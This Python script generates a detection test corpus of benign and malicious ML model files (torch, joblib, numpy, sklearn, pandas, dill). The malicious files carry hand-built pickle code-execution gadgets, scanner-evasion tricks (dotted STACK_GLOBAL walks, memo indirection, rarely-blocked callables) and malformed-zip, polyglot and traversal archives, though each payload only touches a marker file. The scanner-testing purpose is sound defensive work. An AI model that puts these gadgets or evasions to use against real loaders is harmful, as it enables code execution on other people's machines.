"""Generate the interop corpus: real files written by the real libraries, and malicious variants of them.

Run with Debian's /usr/bin/python3 (torch, numpy, joblib, sklearn, dill, pandas):

    python3 generate.py OUTDIR

Writes OUTDIR/benign/..., OUTDIR/malicious/... and OUTDIR/manifest.json. Nothing here loads a malicious file:
payloads are written as raw pickle opcodes (or spliced into real files in place of a sentinel string), and every
payload only creates the file MARKER in the current working folder of whatever process loads it. prove.py loads each
file with its natural loader in a fresh temporary folder and checks whether the marker appeared.

Manifest entry: {"path", "kind", "malicious", "expect": [verdicts], "loader", "note"}.
"""
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import pickletools
import struct
import sys
import tarfile
import zipfile
import zlib

MARKER = "rampart_marker"
SENTINEL = "RAMPART_SENTINEL_0123456789"
SRC = "open('%s', 'w').close()" % MARKER
CMD = "touch %s" % MARKER

ENTRIES = []


def add(out, rel, data, kind, malicious, expect, loader, note=""):
    path = os.path.join(out, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if data is not None:
        with open(path, "wb") as f:
            f.write(data)
    ENTRIES.append({"path": rel, "kind": kind, "malicious": malicious, "expect": expect, "loader": loader, "note": note})


def mal(out, rel, data, kind, loader, note):
    add(out, rel, data, kind, True, ["malicious"], loader, note)


# ---------------------------------------------------------------- raw pickle opcodes

def s(text):
    """Push a str (BINUNICODE, valid in any protocol for the C and Python unpicklers)."""
    b = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def g(module, name):
    """GLOBAL opcode."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module, name):
    """STACK_GLOBAL (protocol 4) with the module and attribute names pushed as strings."""
    return s(module) + s(name) + b"\x93"


def call(fn, *args):
    """fn(*args): the callable, MARK, the arguments, TUPLE, REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


PROTO2 = b"\x80\x02"
PROTO4 = b"\x80\x04"


def whole(value_ops, proto=PROTO2):
    return proto + value_ops + b"."


# Each gadget pushes exactly one value (the call's result) and creates the marker when unpickled.
def gadgets():
    return {
        "os-system": call(g("os", "system"), s(CMD)),
        "posix-system-stack-global": call(sg("posix", "system"), s(CMD)),
        "subprocess-call": call(g("subprocess", "call"), b"(" + s("touch") + s(MARKER) + b"l"),
        "subprocess-check-output": call(g("subprocess", "check_output"), b"(" + s("touch") + s(MARKER) + b"l"),
        "builtins-exec": call(g("builtins", "exec"), s(SRC)),
        "builtins-eval": call(g("builtins", "eval"), s("__import__('os').system(%r)" % CMD)),
        "py2-builtin-eval": call(g("__builtin__", "eval"), s("__import__('os').system(%r)" % CMD)),
        "runpy-run-code": call(g("runpy", "_run_code"), s(SRC), b"}"),
        "cprofile-run": call(g("cProfile", "run"), s(SRC)),
        "os-popen": call(g("os", "popen"), s(CMD)),
        # operator.methodcaller('runsource', SRC)(code.InteractiveInterpreter())
        "methodcaller-code-interpreter": call(
            call(g("operator", "methodcaller"), s("runsource"), s(SRC)),
            call(g("code", "InteractiveInterpreter"))),
        # functools.partial(timeit.timeit, number=1)(SRC): the partial's state is set with BUILD
        "partial-timeit": call(
            call(g("functools", "partial"), g("timeit", "timeit"))
            + b"(" + g("timeit", "timeit") + b")}" + s("number") + b"K\x01sNt" + b"b",
            s(SRC)),
        # pkgutil.resolve_name('os:system')(CMD)
        "pkgutil-resolve-name": call(call(g("pkgutil", "resolve_name"), s("os:system")), s(CMD)),
        # getattr(importlib.import_module('os'), 'system')(CMD)
        "importlib-getattr": call(call(g("builtins", "getattr"), call(g("importlib", "import_module"), s("os")), s("system")), s(CMD)),
        # dotted STACK_GLOBAL: an allowed-looking module and an attribute walk to os.system (protocol 4 only)
        "dotted-torch-serialization": call(sg("torch.serialization", "os.system"), s(CMD)),
        "dotted-torch": call(sg("torch", "os.system"), s(CMD)),
        "dotted-joblib": call(sg("joblib", "os.system"), s(CMD)),
        # torch.nn.modules.module imports torch; walk torch -> serialization -> os -> system
        "dotted-module-walk": call(sg("torch.nn.modules.module", "torch.serialization.os.system"), s(CMD)),
        # file-creating callables that rarely appear on deny-lists
        "io-open": call(g("io", "open"), s(MARKER), s("w")),
        "codecs-open": call(g("codecs", "open"), s(MARKER), s("w")),
        "os-open": call(g("os", "open"), s(MARKER), b"K" + bytes([os.O_CREAT | os.O_WRONLY])),
        "logging-filehandler": call(g("logging", "FileHandler"), s(MARKER)),
        "zipfile-write-mode": call(g("zipfile", "ZipFile"), s(MARKER), s("w")),
        "sqlite3-connect": call(call(g("operator", "methodcaller"), s("execute"), s("create table t (x)")),
                                call(g("sqlite3", "connect"), s(MARKER))),
        "pydoc-pipepager": call(g("pydoc", "pipepager"), s(""), s(CMD)),
        # library-internal helpers that reach exec or getattr
        "numpy-runstring": call(g("numpy.testing._private.utils", "runstring"), s(SRC), b"}"),
        "dill-internal-getattr": call(call(g("dill._dill", "_get_attr"), call(g("dill._dill", "_import_module"), s("os")), s("system")), s(CMD)),
        "dill-eval-repr": call(g("dill._dill", "_eval_repr"), s("__import__('os').system(%r)" % CMD)),
        "pathlib-touch": call(call(g("operator", "methodcaller"), s("touch")), call(g("pathlib", "Path"), s(MARKER))),
    }


def inst_pickle():
    """Protocol 0 INST: (S'cmd'\\n ios\\nsystem\\n -- calls os.system(cmd)."""
    return b"(S'" + CMD.encode() + b"'\nios\nsystem\n."


def obj_pickle():
    """Protocol 1 OBJ: MARK callable args OBJ."""
    return b"(" + g("os", "system") + s(CMD) + b"o."


def memo_stack_global():
    """The module and attribute names are memoized early, mixed with innocent data, and fetched with BINGET."""
    return (PROTO4 + b"}(" + s("os") + b"q\x01" + s("system") + b"q\x02" + b"u"
            + b"h\x01h\x02\x93" + s(CMD) + b"\x85R0" + b".")


def sparse_long_binput():
    """Names memoized at sparse 4-byte indexes (LONG_BINPUT / LONG_BINGET)."""
    return (PROTO4 + s("posix") + b"r" + struct.pack("<I", 70001) + b"0" + s("system") + b"r" + struct.pack("<I", 123)
            + b"0" + b"j" + struct.pack("<I", 70001) + b"j" + struct.pack("<I", 123) + b"\x93" + s(CMD) + b"\x85R.")


def splice(data, payload_ops):
    """Replace the pickled SENTINEL string (one value) with payload_ops (one value). When the string sits inside a
    protocol 4+ FRAME, that frame's length is corrected (the pure-Python unpickler joblib uses checks it)."""
    raw = SENTINEL.encode()
    for enc in (b"\x8c" + bytes([len(raw)]) + raw, b"X" + struct.pack("<I", len(raw)) + raw):
        if data.count(enc) == 1:
            pos = data.index(enc)
            delta = len(payload_ops) - len(enc)
            data = data[:pos] + payload_ops + data[pos + len(enc):]
            return fix_frame(data, pos, len(enc), delta)
    raise SystemExit("sentinel not found exactly once")


def fix_frame(data, pos, old_len, delta):
    """Find the nearest FRAME opcode before pos whose extent covered the replaced bytes and grow it by delta."""
    p = pos - 9
    while p >= 0:
        if data[p] == 0x95:
            (length,) = struct.unpack("<Q", data[p + 1:p + 9])
            if p + 9 <= pos and pos + old_len <= p + 9 + length <= len(data) - delta:
                return data[:p + 1] + struct.pack("<Q", length + delta) + data[p + 9:]
        p -= 1
    return data


def prepend(data, payload_ops):
    """Run the payload, drop its result, then the original pickle (PROTO may appear again mid-stream)."""
    return PROTO2 + payload_ops + b"0" + data


def rezip(zip_bytes, transform, compression=zipfile.ZIP_STORED, rename=None):
    """Rewrite a zip member by member (same order); transform(name, data) -> data; rename maps old to new names."""
    src = zipfile.ZipFile(io.BytesIO(zip_bytes))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as dst:
        for info in src.infolist():
            dst.writestr((rename or {}).get(info.filename, info.filename), transform(info.filename, src.read(info)))
    return buf.getvalue()


def rezip64(zip_bytes, transform):
    """Like rezip, but every member gets zip64 extra fields (force_zip64) and the archive ends with a comment."""
    src = zipfile.ZipFile(io.BytesIO(zip_bytes))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            with dst.open(zipfile.ZipInfo(info.filename, date_time=(2020, 1, 1, 0, 0, 0)), "w", force_zip64=True) as member:
                member.write(transform(info.filename, src.read(info)))
        dst.comment = b"exported by a tool that likes comments"
    return buf.getvalue()


def pickle_member(zip_bytes):
    return next(n for n in zipfile.ZipFile(io.BytesIO(zip_bytes)).namelist() if n.endswith("data.pkl"))


# ---------------------------------------------------------------- raw zip writer for the zip tricks

def raw_zip(members, mismatch_local=None, flags=0, zero_local_sizes=False, bad_crc=None, prefix=b"", absolute=False):
    """Write a stored zip by hand. members: [(name, data)]. mismatch_local: {central_name: local_name}."""
    out = bytearray(prefix)
    central = bytearray()
    base = len(prefix) if absolute else 0
    for name, data in members:
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if bad_crc is not None and name == bad_crc:
            crc ^= 0xDEADBEEF
        local_name = (mismatch_local or {}).get(name, name).encode()
        cname = name.encode()
        offset = len(out) - len(prefix) + base
        lsize = 0 if zero_local_sizes else len(data)
        lcrc = 0 if zero_local_sizes else crc
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0x21, lcrc, lsize, lsize, len(local_name), 0) + local_name + data
        if flags & 0x08:
            out += struct.pack("<IIII", 0x08074B50, crc, len(data), len(data))
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 0, 0, 0x21, crc, len(data), len(data),
                               len(cname), 0, 0, 0, 0, 0, offset) + cname
    cd_offset = len(out) - len(prefix) + base
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), cd_offset, 0)
    return bytes(out)


def members_of(zip_bytes):
    z = zipfile.ZipFile(io.BytesIO(zip_bytes))
    return [(i.filename, z.read(i)) for i in z.infolist()]


# ---------------------------------------------------------------- the corpus

def main(out):
    import numpy as np
    import torch
    import joblib
    import dill
    import pandas as pd
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import StandardScaler
    from sklearn.pipeline import make_pipeline

    torch.manual_seed(0)
    gad = gadgets()
    mal_payload = gad["os-system"]

    def tsave(obj, legacy=False, protocol=2):
        buf = io.BytesIO()
        torch.save(obj, buf, _use_new_zipfile_serialization=not legacy, pickle_protocol=protocol)
        return buf.getvalue()

    def jdump(obj, compress=0):
        """joblib.dump into memory; compress is 0 or a (method, level) tuple."""
        buf = io.BytesIO()
        joblib.dump(obj, buf, compress=compress)
        return buf.getvalue()

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    state = model.state_dict()
    opt = torch.optim.Adam(model.parameters(), lr=0.01)
    model(torch.randn(5, 4)).sum().backward()
    opt.step()
    checkpoint = {"epoch": 3, "model": model.state_dict(), "optimizer": opt.state_dict(), "loss": 0.25, "note": "plain"}

    # ---- benign torch
    add(out, "benign/torch/state_dict_zip.pt", tsave(state), "torch-zip-state-dict", False, ["clean"], "torch")
    add(out, "benign/torch/state_dict_legacy.pt", tsave(state, True), "torch-legacy-state-dict", False, ["clean"], "torch")
    add(out, "benign/torch/checkpoint_zip.pth", tsave(checkpoint), "torch-zip-checkpoint-optimizer", False, ["clean"], "torch")
    add(out, "benign/torch/checkpoint_legacy.pth", tsave(checkpoint, True), "torch-legacy-checkpoint-optimizer", False, ["clean"], "torch")
    add(out, "benign/torch/whole_module_zip.pt", tsave(model), "torch-zip-whole-module", False, ["needs-review"], "torch",
        "torch.nn module classes are importable code, not data")
    add(out, "benign/torch/whole_module_legacy.pt", tsave(model, True), "torch-legacy-whole-module", False, ["needs-review"], "torch",
        "torch.nn module classes are importable code, not data")
    dtypes = {str(d): torch.ones(3, dtype=d) for d in (torch.float16, torch.bfloat16, torch.float64, torch.int8, torch.uint8,
                                                         torch.int16, torch.int32, torch.int64, torch.bool, torch.complex64)}
    add(out, "benign/torch/many_dtypes_zip.pt", tsave(dtypes), "torch-zip-many-dtypes", False, ["clean"], "torch")
    add(out, "benign/torch/many_dtypes_legacy.pt", tsave(dtypes, True), "torch-legacy-many-dtypes", False, ["clean"], "torch")
    add(out, "benign/torch/state_dict_protocol4.pt", tsave(state, protocol=4), "torch-zip-protocol-4", False, ["clean"], "torch",
        "pickle_protocol=4: FRAME and STACK_GLOBAL opcodes")
    add(out, "benign/torch/state_dict_zip64.pt", rezip64(tsave(state), lambda n, d: d), "torch-zip64-state-dict", False, ["clean"],
        "torch", "a real save rewritten with zip64 extra fields and an archive comment")
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(model), buf)
    add(out, "benign/torch/scripted.pt", buf.getvalue(), "torchscript", False, ["clean", "needs-review"], "torchscript",
        "TorchScript carries TorchScript code (code/) interpreted by torch.jit.load, not Python")

    # ---- malicious torch
    tagged_state = dict(state)
    tagged_state["note"] = SENTINEL
    z = tsave(tagged_state)
    name = name0 = pickle_member(z)
    mal(out, "malicious/torch/zip_data_pkl.pt", rezip(z, lambda n, d: splice(d, mal_payload) if n == name else d),
        "torch-zip-payload", "torch", "os.system in archive/data.pkl of a real torch zip save")
    tagged_ckpt = dict(checkpoint, note=SENTINEL)
    z = tsave(tagged_ckpt)
    name = pickle_member(z)
    mal(out, "malicious/torch/checkpoint_subprocess.pth",
        rezip(z, lambda n, d: splice(d, gad["subprocess-call"]) if n == name else d),
        "torch-zip-checkpoint-payload", "torch", "subprocess.call inside a checkpoint with optimizer state")
    z = tsave(tagged_ckpt, protocol=4)
    mal(out, "malicious/torch/zip_dotted_stack_global.pt",
        rezip(z, lambda n, d: splice(d, gad["dotted-torch-serialization"]) if n == name else d),
        "torch-zip-dotted-stack-global", "torch", "STACK_GLOBAL torch.serialization + 'os.system' (attribute walk)")
    model.note = SENTINEL
    z = tsave(model)
    del model.note
    name = pickle_member(z)
    mal(out, "malicious/torch/whole_module_exec.pt", rezip(z, lambda n, d: splice(d, gad["builtins-exec"]) if n == name else d),
        "torch-zip-whole-module-payload", "torch", "builtins.exec in a whole-module save")
    leg = tsave(tagged_state, True)
    mal(out, "malicious/torch/zip_deflated.pt",
        rezip(tsave(tagged_state), lambda n, d: splice(d, gad["io-open"]) if n == name0 else d, compression=zipfile.ZIP_DEFLATED),
        "torch-zip-deflated-payload", "torch", "members deflate-compressed instead of stored; payload in data.pkl")
    z = tsave(tagged_state)
    mal(out, "malicious/torch/zip_custom_prefix.pt",
        rezip(z, lambda n, d: splice(d, gad["logging-filehandler"]) if n == name0 else d,
              rename={n: "my_model_v2/" + n.split("/", 1)[1] for n in zipfile.ZipFile(io.BytesIO(z)).namelist()}),
        "torch-zip-custom-prefix", "torch", "members under my_model_v2/ instead of archive/: torch takes the folder from the first name")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for tname, data in [("storages", PROTO2 + gad["os-system"] + b"0K\x00." + whole(b"]")), ("tensors", whole(b"K\x00")),
                            ("pickle", whole(b"}" + s("w") + b"K\x01s"))]:
            info = tarfile.TarInfo(tname)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    mal(out, "malicious/torch/legacy_tar_format.pt", tbuf.getvalue(), "torch-legacy-tar", "torch",
        "torch's oldest format, a tar of storages/tensors/pickle, still tried first by torch.load; payload in 'storages'")
    mal(out, "malicious/torch/legacy_main_pickle.pt", splice(leg, gad["runpy-run-code"]),
        "torch-legacy-payload", "torch", "runpy._run_code in the main pickle of a legacy save")
    cut = splice(leg, gad["subprocess-call"])
    cut = cut[:cut.index(gad["subprocess-call"]) + len(gad["subprocess-call"]) + 2]
    mal(out, "malicious/torch/legacy_truncated.pt", cut, "torch-legacy-truncated-after-payload", "torch",
        "a legacy save cut off two bytes after the payload: torch.load runs it, then fails")
    mal(out, "malicious/torch/legacy_first_pickle.pt", prepend(leg, gad["partial-timeit"]),
        "torch-legacy-magic-pickle-payload", "torch", "payload before the magic-number pickle (the first of five pickles)")
    # The storage-keys pickle is the fourth pickle; find it by walking the stream with pickletools.
    f = io.BytesIO(tsave(state, True))
    bounds = []
    for _ in range(5):
        start = f.tell()
        for _op, _arg, _pos in pickletools.genops(f):
            pass
        bounds.append((start, f.tell()))
    k0, k1 = bounds[4]
    legacy = f.getvalue()
    mal(out, "malicious/torch/legacy_storage_keys_pickle.pt",
        legacy[:k0] + prepend(legacy[k0:k1], gad["pkgutil-resolve-name"]) + legacy[k1:],
        "torch-legacy-second-pickle", "torch", "payload in the storage-keys pickle that follows the main pickle")

    # ---- zip tricks (torch zip layout, payload in data.pkl)
    members = members_of(rezip(tsave(tagged_state), lambda n, d: d))
    pname = next(n for n, _ in members if n.endswith("data.pkl"))
    evil = [(n, splice(d, mal_payload) if n == pname else d) for n, d in members]
    mal(out, "malicious/zip/name_mismatch.pt", raw_zip(evil, mismatch_local={pname: pname.replace("data.pkl", "README.txt")}),
        "zip-local-central-name-mismatch", "torch", "central directory says data.pkl, local header says README.txt")
    benign_pkl = next(d for n, d in members if n == pname)
    mal(out, "malicious/zip/duplicate_names_torch.pt", raw_zip(evil + [(pname, benign_pkl)]), "zip-duplicate-names-torch", "torch",
        "two members named data.pkl: torch (miniz) reads the first, malicious one; zipfile would return the second, harmless one")
    mal(out, "malicious/zip/duplicate_names.zip", raw_zip([("model.pkl", whole(b"}")), ("model.pkl", whole(mal_payload))]),
        "zip-duplicate-names", "zip-pickles", "two members named model.pkl: the first harmless, the second (which zipfile returns) malicious")
    mal(out, "malicious/zip/data_descriptor_zero_sizes.pt", raw_zip(evil, flags=0x08 | 0x06, zero_local_sizes=True),
        "zip-flags-data-descriptor", "torch", "flag bits 1,2,3 set; local header sizes and CRC zero; sizes only in the central directory")
    mal(out, "malicious/zip/crc_mismatch.pt", raw_zip(evil, bad_crc=pname), "zip-crc-mismatch", "torch",
        "data.pkl's stored CRC is wrong; the real loader does not check it")
    mal(out, "malicious/zip/zip64_with_comment.pt", rezip64(tsave(tagged_state), lambda n, d: splice(d, mal_payload) if n == pname else d),
        "zip-zip64-extra-fields", "torch", "every member with zip64 extra fields, and an archive comment after the central directory")
    mal(out, "malicious/zip/traversal.zip", raw_zip([("model/../../evil.pkl", whole(mal_payload))]), "zip-traversal-name",
        "zip-pickles", "member name climbs out of the extraction folder")
    mal(out, "malicious/zip/absolute_name.zip", raw_zip([("/tmp/evil.pkl", whole(mal_payload))]), "zip-absolute-name",
        "zip-pickles", "absolute member name")
    inner = raw_zip([("inner/model.pkl", whole(gad["cprofile-run"]))])
    mal(out, "malicious/zip/zip_in_zip.zip", raw_zip([("outer/inner.zip", inner)]), "zip-in-zip", "zip-pickles",
        "a zip inside a zip; the inner member is a pickle")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w:gz") as tar:
        for tname, data in [("model/weights.pkl", whole(b"}")), ("model/extra.pkl", whole(gad["methodcaller-code-interpreter"]))]:
            info = tarfile.TarInfo(tname)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    mal(out, "malicious/zip/pickles.tar.gz", tbuf.getvalue(), "tar-gz-of-pickles", "tar-pickles",
        "a gzip'd tar whose second member is a pickle with a payload")

    # ---- polyglots
    benign_zip = tsave(state)
    mal(out, "malicious/polyglot/pickle_then_zip.pt", whole(gad["importlib-getattr"]) + benign_zip, "polyglot-pickle-appended-zip",
        "torch", "a pickle followed by a complete torch zip: torch sees no PK at offset 0 and unpickles the start")
    mal(out, "malicious/polyglot/zip_with_prepended_pickle.pt",
        raw_zip(members, prefix=whole(gad["subprocess-check-output"]), absolute=True), "polyglot-zip-prepended-pickle", "torch",
        "a torch zip whose offsets account for a pickle prepended to it; zipfile opens it, torch unpickles the prefix")

    # ---- plain pickle gadgets (pickle.load)
    for gname, ops in gad.items():
        proto = PROTO4 if gname.startswith("dotted") else PROTO2
        mal(out, "malicious/pickle/%s.pkl" % gname, whole(ops, proto), "pickle-gadget-" + gname, "pickle", "payload gadget " + gname)
    mal(out, "malicious/pickle/protocol0_text.pkl", b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.", "pickle-protocol-0-text",
        "pickle", "protocol 0 text opcodes: GLOBAL, STRING, TUPLE, REDUCE")
    body = gad["builtins-exec"] + b"."
    mal(out, "malicious/pickle/protocol5_framed.pkl", b"\x80\x05\x95" + struct.pack("<Q", len(body)) + body, "pickle-protocol-5-framed",
        "pickle", "protocol 5 with the payload inside a FRAME")
    mal(out, "malicious/pickle/inst_opcode.pkl", inst_pickle(), "pickle-inst-opcode", "pickle", "protocol 0 INST calls os.system")
    mal(out, "malicious/pickle/obj_opcode.pkl", obj_pickle(), "pickle-obj-opcode", "pickle", "protocol 1 OBJ calls os.system")
    mal(out, "malicious/pickle/memo_stack_global.pkl", memo_stack_global(), "pickle-memo-stack-global", "pickle",
        "STACK_GLOBAL whose module and name come from the memo (BINGET)")
    mal(out, "malicious/pickle/sparse_long_binput.pkl", sparse_long_binput(), "pickle-sparse-long-binput", "pickle",
        "names memoized at indexes 70001 and 123, fetched with LONG_BINGET")
    mal(out, "malicious/pickle/broken_stream.pkl", PROTO2 + mal_payload + b"0" + b"\xff\xfe garbage that is not pickle",
        "pickle-payload-then-garbage", "pickle", "payload, then bytes that make the loader fail after the payload ran")
    mal(out, "malicious/pickle/second_pickle.pkl", whole(b"}") + whole(mal_payload), "pickle-second-in-stream", "pickle-all",
        "a harmless pickle followed by a malicious one (for loaders that read several pickles)")
    mal(out, "malicious/folder/model/weights.txt", whole(gad["os-system"]), "pickle-named-txt", "pickle", "a pickle named .txt in a model folder")
    mal(out, "malicious/folder/model/config.json", whole(gad["builtins-exec"]), "pickle-named-json", "pickle", "a pickle named .json in a model folder")

    # ---- joblib
    arrays = {"coef": np.arange(12, dtype=np.float64).reshape(3, 4), "bias": np.ones(3, dtype=np.float32), "name": "plain"}
    add(out, "benign/joblib/arrays.joblib", jdump(arrays), "joblib-plain", False, ["clean"], "joblib")
    add(out, "benign/joblib/object_array.joblib", jdump({"labels": np.array(["cat", "dog", None], dtype=object)}),
        "joblib-object-array", False, ["clean"], "joblib", "object array: joblib pickles the items after the wrapper")
    tagged_arrays = [np.arange(1000, dtype=np.int64), SENTINEL]
    plain = jdump(tagged_arrays)
    mal(out, "malicious/joblib/after_numpy_array.joblib", splice(plain, gad["os-system"]), "joblib-payload-after-array", "joblib",
        "the payload opcodes follow the raw bytes of a numpy array that joblib writes inline")
    spliced = splice(plain, gad["os-system"])
    mal(out, "malicious/joblib/truncated_after_payload.joblib", spliced[:spliced.index(gad["os-system"]) + len(gad["os-system"])],
        "joblib-truncated-after-payload", "joblib", "a joblib file cut off right after the payload that follows the array")
    compressors = {
        "zlib": (lambda d: zlib.compress(d, 3)),
        "gzip": (lambda d: gzip.compress(d, 3, mtime=0)),
        "bz2": (lambda d: bz2.compress(d, 3)),
        "lzma": (lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE)),
        "xz": (lambda d: lzma.compress(d, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64)),
    }
    for cname, comp in compressors.items():
        add(out, "benign/joblib/arrays_%s.joblib" % cname, jdump(arrays, (cname, 3)), "joblib-" + cname, False, ["clean"], "joblib")
        mal(out, "malicious/joblib/%s.joblib" % cname, comp(splice(plain, gad["builtins-exec"])), "joblib-" + cname + "-payload",
            "joblib", "payload after a numpy array, whole stream compressed as joblib's %s compressor does" % cname)

    # ---- numpy
    def npsave(arr):
        b = io.BytesIO()
        np.save(b, arr, allow_pickle=True)
        return b.getvalue()

    def npz(**arrs):
        b = io.BytesIO()
        np.savez(b, **arrs)
        return b.getvalue()

    objects = np.array([{"a": 1}, [1, 2, 3], "text", 4.5, None], dtype=object)
    add(out, "benign/numpy/numeric.npy", npsave(np.arange(24, dtype=np.float32).reshape(2, 3, 4)), "npy-numeric", False, ["clean"], "numpy")
    review = "object array of plain data: its pickle is clean, but numpy.load refuses it unless allow_pickle=True"
    add(out, "benign/numpy/objects.npy", npsave(objects), "npy-object-array", False, ["needs-review"], "numpy", review)
    add(out, "benign/numpy/structured.npy", npsave(np.zeros(3, dtype=[("a", "<i4"), ("b", ">f8"), ("c", "S4")])), "npy-structured",
        False, ["clean"], "numpy")
    add(out, "benign/numpy/fortran_big_endian.npy", npsave(np.asfortranarray(np.arange(6, dtype=">f4").reshape(2, 3))),
        "npy-fortran-big-endian", False, ["clean"], "numpy")
    add(out, "benign/numpy/numeric.npz", npz(a=np.arange(10), b=np.eye(3)), "npz-numeric", False, ["clean"], "numpy-npz")
    add(out, "benign/numpy/objects.npz", npz(a=np.arange(10), o=objects), "npz-object-array", False, ["needs-review"], "numpy-npz", review)
    tagged_objects = np.array([1, SENTINEL, "x"], dtype=object)
    mal(out, "malicious/numpy/object_array.npy", splice(npsave(tagged_objects), gad["os-system"]), "npy-object-payload",
        "numpy", "payload inside the pickle of an object array")
    zb = npz(a=np.arange(10), o=tagged_objects)
    mal(out, "malicious/numpy/object_array.npz", rezip(zb, lambda n, d: splice(d, gad["runpy-run-code"]) if n == "o.npy" else d),
        "npz-object-payload", "numpy-npz", "payload inside the object-array member of an npz")

    mal(out, "malicious/numpy/member_without_npy_suffix.npz",
        rezip(zb, lambda n, d: splice(d, gad["numpy-runstring"]) if n == "o.npy" else d, rename={"o.npy": "config"}),
        "npz-member-without-npy-suffix", "numpy-npz", "object array member named 'config': numpy still reads it as an array")

    # ---- sklearn
    X = np.random.RandomState(0).rand(40, 3)
    y = (X[:, 0] > 0.5).astype(int)
    clf = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y)
    add(out, "benign/sklearn/pipeline.pkl", pickle.dumps(clf, protocol=4), "sklearn-pickle", False, ["needs-review"], "pickle",
        "sklearn estimator classes are code a reviewer should accept")
    add(out, "benign/sklearn/pipeline.joblib", jdump(clf), "sklearn-joblib", False, ["needs-review"], "joblib")
    clf.rampart_note = SENTINEL
    mal(out, "malicious/sklearn/pipeline.pkl", splice(pickle.dumps(clf, protocol=4), gad["subprocess-call"]), "sklearn-pickle-payload",
        "pickle", "payload in an attribute of a fitted pipeline")
    mal(out, "malicious/sklearn/pipeline.joblib", splice(jdump(clf), gad["posix-system-stack-global"]), "sklearn-joblib-payload",
        "joblib", "payload in an attribute of a fitted pipeline saved by joblib")
    del clf.rampart_note

    # ---- pandas
    df = pd.DataFrame({"x": np.arange(5), "y": np.linspace(0, 1, 5), "s": list("abcde")})
    series = pd.Series([1.5, 2.5, 3.5], name="values")

    def topkl(o):
        b = io.BytesIO()
        o.to_pickle(b, compression=None)
        return b.getvalue()

    add(out, "benign/pandas/frame.pkl", topkl(df), "pandas-dataframe", False, ["needs-review"], "pandas",
        "pandas internals (block managers, indexes) are rebuilt by pandas functions")
    add(out, "benign/pandas/series.pkl", topkl(series), "pandas-series", False, ["needs-review"], "pandas")
    tagged_df = df.copy()
    tagged_df["s"] = ["a", SENTINEL, "c", "d", "e"]
    mal(out, "malicious/pandas/frame.pkl", splice(topkl(tagged_df), gad["methodcaller-code-interpreter"]), "pandas-dataframe-payload",
        "pandas", "payload inside an object column")
    mal(out, "malicious/pandas/series.pkl", splice(topkl(pd.Series(["a", SENTINEL])), gad["builtins-eval"]), "pandas-series-payload",
        "pandas", "payload inside an object series")

    # ---- dill
    data = {"weights": [0.1, 0.2], "name": "plain", "shape": (2,), "flags": {True, False}}
    add(out, "benign/dill/plain.dill", dill.dumps(data), "dill-plain-data", False, ["clean"], "dill")
    mal(out, "malicious/dill/plain.dill", splice(dill.dumps(dict(data, name=SENTINEL)), gad["pkgutil-resolve-name"]),
        "dill-payload", "dill", "payload in a dill stream")
    mal(out, "malicious/dill/dill_internals.dill", splice(dill.dumps(dict(data, name=SENTINEL)), gad["dill-internal-getattr"]),
        "dill-internal-gadget", "dill", "dill's own _import_module and _get_attr reach os.system")

    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(ENTRIES, f, indent=1)


if __name__ == "__main__":
    main(sys.argv[1])
